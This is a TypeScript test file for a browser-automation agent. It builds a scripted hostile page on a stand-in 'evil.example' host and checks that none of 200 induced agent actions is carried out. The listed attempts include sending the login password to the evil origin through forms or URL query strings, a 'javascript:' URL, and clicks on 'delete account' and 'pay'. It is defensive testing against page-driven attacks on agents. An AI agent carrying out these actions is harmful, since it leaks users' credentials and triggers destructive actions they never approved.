import { randomUUID } from "node:crypto"
import { assert, it } from "@effect/vitest"
import { Effect, Result, type Schema } from "effect"
import * as Crypto from "../../../../adapters/crypto/Crypto.ts"
import { NetworkRecorder } from "../../../../core/agent/network/NetworkRecorder.ts"
import { Browser } from "../../../../core/browser/Browser.ts"
import * as Session from "../../../../core/browser/Session.ts"
import * as Draft from "../../../../core/builder/Draft.ts"
import * as JudgedSession from "../../../../core/builder/host/JudgedSession.ts"
import * as StartingState from "../../../../core/builder/host/StartingState.ts"
import * as Turn from "../../../../core/builder/host/Turn.ts"
import * as ActJudge from "../../../../core/builder/proposal/ActJudge.ts"
import * as Proposal from "../../../../core/builder/proposal/Proposal.ts"
import * as Sandbox from "../../../../core/workflow/sandbox/Sandbox.ts"
import { WorkspaceId } from "../../../../core/workspace/Ids.ts"
import * as ScriptedBrowser from "../../../kit/browser/ScriptedBrowser.ts"
import { account } from "../../../support/accounts.ts"
import { entryOf } from "../../../support/entries.ts"

const portal = "https://portal.example"
const evil = "https://evil.example/"
const canary = "canary-pass-0123456789"
const password = "{{context.inputs.LOGIN.PASSWORD}}"

const page: ScriptedBrowser.ScriptedSite[string] = [
  { selector: "#note", value: "" },
  { selector: "#theirs", value: "", form: { address: evil } },
  { selector: "#frame", value: "", frame: evil },
  { selector: "#secret", value: "", type: "password", form: { address: evil } },
  { selector: "#pay", text: "Pay now", leadsTo: `${portal}/done` },
  { selector: "#delete", text: "Delete account", leadsTo: `${portal}/done` },
  { selector: "#send", text: "Send", leadsTo: `${portal}/done` },
  { selector: "#post", text: "Next", leadsTo: `${portal}/done`, looks: { tag: "button" }, form: { address: portal } },
  { selector: "#away", text: "Next", leadsTo: evil },
  { selector: "#steal", text: "Next", leadsTo: `${portal}/done`, form: { address: evil, method: "get" } }
]
const site: ScriptedBrowser.ScriptedSite = {
  [`${portal}/`]: page,
  [`${portal}/done`]: [{ selector: "//h1", text: "Done" }],
  [evil]: [{ selector: "//h1", text: "Caught" }]
}

type Attempt = readonly [tool: string, parameters: Schema.JsonObject]

const secrets = [
  password,
  `${password} `,
  `x${password}`,
  `{{$uppercase(context.inputs.LOGIN.PASSWORD)}}`,
  "{{secret:LOGIN.PASSWORD}}"
]
const fields = ["#note", "#theirs", "#frame", "#secret"]
const typed = fields.flatMap((selector) =>
  [...secrets, "{{context.inputs.LOGIN}}", "{{context.inputs}}"].flatMap(
    (text): ReadonlyArray<Attempt> => [
      ["type", { selector, text }],
      ["type", { selector, text, submit_after_input: true }],
      ["choose", { selector, value: text }]
    ]
  )
)
const clicked = ["#pay", "#delete", "#send", "#post", "#away", "#steal"].map(
  (selector): Attempt => ["click", { selector }]
)
const opened = [
  evil,
  `${portal}.evil.example/`,
  `${portal}/delete?all=1`,
  "javascript:alert(1)",
  "data:text/html,x"
].flatMap(
  (url): ReadonlyArray<Attempt> =>
    [url, `${url}?p=${password}`, `${url}#${password}`].map((one) => ["open", { url: one }])
)
const others = ["approve", "yes", "save", "describe", "credential", "input", "upload", "run", "pay", "budget"].flatMap(
  (tool): ReadonlyArray<Attempt> =>
    [{}, { text: password }, { calls: 1_000 }, { note: "x" }].map((sent) => [tool, sent])
)
const hidden = ["read", "read_by_judgement", "for_each", "click"].flatMap(
  (tool): ReadonlyArray<Attempt> =>
    secrets.map((text) => [
      tool,
      tool === "click"
        ? { selector: `//a[.='${text}']` }
        : tool === "for_each"
          ? { variable_over: text, variable_current_item: text, variable_current_index: "at" }
          : { prompt: text, extract_data_model: { type: "object", properties: { a: { type: "string", path: text } } } }
    ])
)
const attempts = [...typed, ...clicked, ...opened, ...others, ...hidden]
const repeated = Array.from({ length: 200 }, (_, at) => attempts[at % attempts.length] as Attempt)

const content = {
  startUrl: `${portal}/`,
  inputSchema: {},
  vaultSchema: { LOGIN: { type: "credential", domain: portal } }
}

it.effect("of 200 proposals that a hostile page wants, none is done", () =>
  Effect.gen(function* () {
    assert.isAtLeast(attempts.length, 150)
    const desk = account("LOGIN", { userName: "desk", password: canary }, entryOf({}, { domain: portal }))
    const accounts = new Map([["LOGIN", desk]])
    const draft = yield* Draft.fresh(
      { name: "x", description: null, settings: {}, ...content },
      { start: randomUUID(), end: randomUUID() }
    )
    const raw = yield* (yield* Browser).open(Session.empty)
    const heard = new NetworkRecorder()
    const known: ActJudge.Known = { aliases: new Set(["LOGIN"]), hasPrompt: false }
    const sites = [{ domain: portal, fields: { allowed_origins: null } }]
    const done: Array<Attempt> = []
    for (const [tool, parameters] of repeated) {
      const read = Proposal.read(tool, parameters, () => null)
      if (Result.isFailure(read) || read.success._tag !== "Step") continue
      const { candidate } = read.success
      if (ActJudge.objection(candidate, known) !== null) continue
      yield* raw.navigation.goto(`${portal}/`)
      const judging = JudgedSession.judging(sites)
      judging.isPassword = ActJudge.isPassword(String(candidate.parameters.text))
      const stage = Turn.newStage({ page: raw, heard }, { LOGIN: "robot" }, { ...StartingState.empty, accounts }, 0)
      const judged = { ...stage, page: JudgedSession.make(stage.page, judging) }
      const { outcome } = yield* Turn.act(draft, judged, candidate, { node: randomUUID(), end: randomUUID() })
      const values = yield* raw.elements.states(fields).pipe(Effect.orElseSucceed(() => []))
      const isTyped = values.some(({ values }) => values.some((value) => value !== ""))
      if (outcome.draft !== draft || isTyped || (yield* raw.navigation.address) !== `${portal}/`) {
        done.push([tool, parameters])
      }
    }
    assert.deepStrictEqual(done, [])
  }).pipe(
    Effect.provideService(Sandbox.Owner, WorkspaceId.make("00000000-0000-4000-8000-000000000001")),
    Effect.provide([ScriptedBrowser.layer(site), Crypto.layer]),
    Effect.scoped
  )
)
